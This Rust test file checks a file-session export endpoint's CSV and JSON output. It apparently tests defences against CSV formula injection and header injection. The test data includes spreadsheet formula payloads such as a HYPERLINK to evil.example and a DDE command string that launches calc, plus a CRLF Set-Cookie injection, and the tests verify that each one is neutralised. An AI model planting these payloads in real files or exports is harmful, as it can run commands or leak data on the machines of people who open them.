//! Exports: both forms hold everything, and nothing in them acts.

use std::{fs, path::Path, process::Command, time::Duration};

use axum::http::{Method, StatusCode};
use serde_json::json;
use sojourn_domain::files::{FileAction, FileOutcome};
use sojourn_testbed::{run, skip};

use super::{begin, event, new, seed_time, somewhere, upload};
use crate::house::House;

const HEADER: &str = "session_id,connection,username,protocol,session_started,session_ended,timestamp,action,path,detail,\
                      event_id,new_path,size,offset,entries,sha256,outcome,error,duration_ms,user_id,client_address,\
                      access_session_id";

#[tokio::test]
async fn csv_has_a_header_and_a_row_for_each_event_with_either_line_end() {
    let house = House::new().await;
    let alice = house.user("alice", "user").await;
    let id = begin(&house, new((alice, "alice"), somewhere(), seed_time(0)), false).await;
    let mut rename = event(seed_time(301), FileAction::Rename, "/a, \"b\"");
    rename.fact.new_path = Some("/c".to_owned());
    let upload = upload();
    house.store.file_events_add(id, &[upload.clone(), rename.clone()]).await.unwrap();
    let own = house.token(alice, None).await;
    let get =
        async |query: &str| house.get(&format!("/file-sessions/{id}/export?{query}")).r#as(&own).await.text;
    let crlf = get("format=csv").await;
    let session =
        format!("{id},\"Files Server\",alice,sftp,2024-01-01T00:00:00.000Z,2024-01-01T00:30:00.000Z");
    let expected = [
        HEADER.to_owned(),
        format!(
            "{session},2024-01-01T00:05:00.000Z,upload,/var/www/html/index.html,\"12.4 KB\",{},,12400,0,,,ok,,0,\
             {alice},192.0.2.1,",
            upload.id
        ),
        format!(
            "{session},2024-01-01T00:05:01.000Z,rename,\"/a, \"\"b\"\"\",\"to /c\",{},/c,,0,,,ok,,0,{alice},192.0.2.1,",
            rename.id
        ),
        String::new(),
    ];
    assert_eq!(crlf, expected.join("\r\n"));
    assert_eq!(get("format=csv&newline=crlf").await, crlf);
    assert_eq!(get("format=csv&newline=lf").await, expected.join("\n"));
}

#[tokio::test]
async fn json_holds_the_session_and_its_events_and_is_what_is_sent_unless_asked() {
    let house = House::new().await;
    let alice = house.user("alice", "user").await;
    let id = begin(&house, new((alice, "alice"), somewhere(), seed_time(0)), false).await;
    // More than are read at once.
    let events: Vec<_> = (0..501).map(|n| event(seed_time(n), FileAction::Delete, "/x")).collect();
    house.store.file_events_add(id, &events).await.unwrap();
    let own = house.token(alice, None).await;
    let exported = house.get(&format!("/file-sessions/{id}/export")).r#as(&own).await;
    let session = house.get(&format!("/file-sessions/{id}")).r#as(&own).await.json();
    let listed = house.get(&format!("/file-sessions/{id}/events")).r#as(&own).await.json();
    assert_eq!(exported.json(), json!({"session": session, "events": listed["events"]}));
    assert_eq!(listed["events"].as_array().unwrap().len(), 501);
    let explicit = house.get(&format!("/file-sessions/{id}/export?format=json")).r#as(&own).await;
    assert_eq!(explicit.text, exported.text);
    // The audit trail says who took what.
    let entry = house.audit().await.pop().unwrap();
    assert_eq!((entry.action.as_str(), entry.actor_name.as_str()), ("file_session.export", "alice"));
    assert!(entry.object == id.to_string() && entry.detail.contains("\"format\":\"json\""), "{entry:?}");
    // Looking at the head takes nothing.
    let entries = house.audit().await.len();
    let head = house.call(Method::HEAD, &format!("/file-sessions/{id}/export?format=csv")).r#as(&own).await;
    assert_eq!((head.status, head.text.as_str()), (StatusCode::OK, ""));
    assert_eq!(house.audit().await.len(), entries);
}

#[tokio::test]
async fn an_empty_session_exports_as_well() {
    let house = House::new().await;
    let alice = house.user("alice", "user").await;
    let id = begin(&house, new((alice, "alice"), somewhere(), seed_time(0)), true).await;
    let own = house.token(alice, None).await;
    let csv = house.get(&format!("/file-sessions/{id}/export?format=csv")).r#as(&own).await;
    assert_eq!(csv.text, format!("{HEADER}\r\n"));
    let exported = house.get(&format!("/file-sessions/{id}/export")).r#as(&own).await.json();
    assert_eq!((&exported["events"], &exported["session"]["endedAt"]), (&json!([]), &json!(null)));
}

#[tokio::test]
async fn a_name_from_outside_neither_breaks_a_header_nor_is_a_formula() {
    let house = House::new().await;
    let alice = house.user("alice", "user").await;
    let mut new = new((alice, "alice"), somewhere(), seed_time(0));
    new.connection_name = "=Büro \"x\"; a\r\nSet-Cookie: a=b/../.. ".to_owned();
    let id = begin(&house, new, false).await;
    let mut failed = event(seed_time(1), FileAction::Download, "=HYPERLINK(\"http://evil.example\")");
    failed.fact.outcome = FileOutcome::Failed;
    failed.fact.error = "@SUM(1+1)\t\u{1b}[31m".to_owned();
    failed.fact.new_path = Some("＝1+1".to_owned());
    house.store.file_events_add(id, &[failed]).await.unwrap();
    let own = house.token(alice, None).await;
    let answer = house.get(&format!("/file-sessions/{id}/export?format=csv&newline=lf")).r#as(&own).await;
    assert_eq!(
        answer.header("content-disposition"),
        "attachment; filename=\"file-activity__B_ro__x___a__Set-Cookie__a_b_.._..__20240101000000.csv\""
    );
    assert_eq!(answer.headers.get("set-cookie"), None);
    let row = answer.text.lines().nth(1).unwrap();
    for cell in [
        ",\"'=Büro \"\"x\"\"; a\\x0d\\x0aSet-Cookie: a=b/../.. \",",
        ",\"'=HYPERLINK(\"\"http://evil.example\"\")\",",
        ",\"'＝1+1\",",
        ",\"'@SUM(1+1)\\x09\\x1b[31m\",",
    ] {
        assert!(row.contains(cell), "{cell} in {row}");
    }
    assert_eq!(answer.text.lines().count(), 2);
}

/// Every way that is known of beginning a formula, as a name on a target.
const FORMULAS: [&str; 16] = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1;1)",
    " =1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\"=1+1\"",
    "'=1+1",
    "＝1+1",
    "\u{feff}=1+1",
    "=HYPERLINK(\"http://evil.example/\"&A1)",
    "=cmd|' /C calc'!A0",
    "a;=1+1",
    "a\";=1+1;\"",
];

/// Opens a CSV in LibreOffice, with cells between `separator`s and formulas executed, and returns the sheet in XML.
fn opened(folder: &Path, name: &str, text: &str, separator: char) -> String {
    let file = folder.join(name).with_extension("csv");
    fs::write(&file, text).unwrap();
    let mut office = Command::new("soffice");
    office
        .arg(format!("-env:UserInstallation=file://{}", folder.join("profile").display()))
        .args(["--headless", "--norestore", "--convert-to", "fods", "--outdir"])
        .arg(folder)
        .arg(format!(
            "--infilter=CSV:{},34,76,1,,0,false,true,false,false,false,-1,true",
            u32::from(separator)
        ))
        .arg(&file);
    run::output(office, Duration::from_secs(300)).ok();
    fs::read_to_string(file.with_extension("fods")).unwrap()
}

#[tokio::test]
async fn a_spreadsheet_finds_no_formula_in_it() {
    if Command::new("soffice").arg("--version").output().is_err() {
        skip::whole("LibreOffice is not installed");
        return;
    }
    let house = House::new().await;
    let alice = house.user("alice", "user").await;
    let mut new = new((alice, "alice"), somewhere(), seed_time(0));
    new.connection_name = FORMULAS[0].to_owned();
    let id = begin(&house, new, false).await;
    let events: Vec<_> = FORMULAS
        .into_iter()
        .zip(0..)
        .map(|(text, second)| {
            let mut event = event(seed_time(second), FileAction::Rename, text);
            event.fact.new_path = Some(text.to_owned());
            event.fact.outcome = FileOutcome::Failed;
            event.fact.error = text.to_owned();
            event
        })
        .collect();
    house.store.file_events_add(id, &events).await.unwrap();
    let own = house.token(alice, None).await;
    let csv = house.get(&format!("/file-sessions/{id}/export?format=csv")).r#as(&own).await.text;
    let folder = tempfile::tempdir().unwrap();
    for (name, separator) in [("comma", ','), ("semicolon", ';')] {
        let sheet = opened(folder.path(), name, &csv, separator);
        let found = sheet.find("table:formula").map(|at| &sheet[at..(at + 200).min(sheet.len())]);
        assert_eq!(found, None, "{name}: {csv}");
        assert!(sheet.contains(&id.to_string()), "{sheet}");
    }
    // It would have found one.
    let bare = opened(folder.path(), "bare", "a,b\r\n=1+1,2\r\n", ',');
    assert!(bare.contains("table:formula"), "{bare}");
}
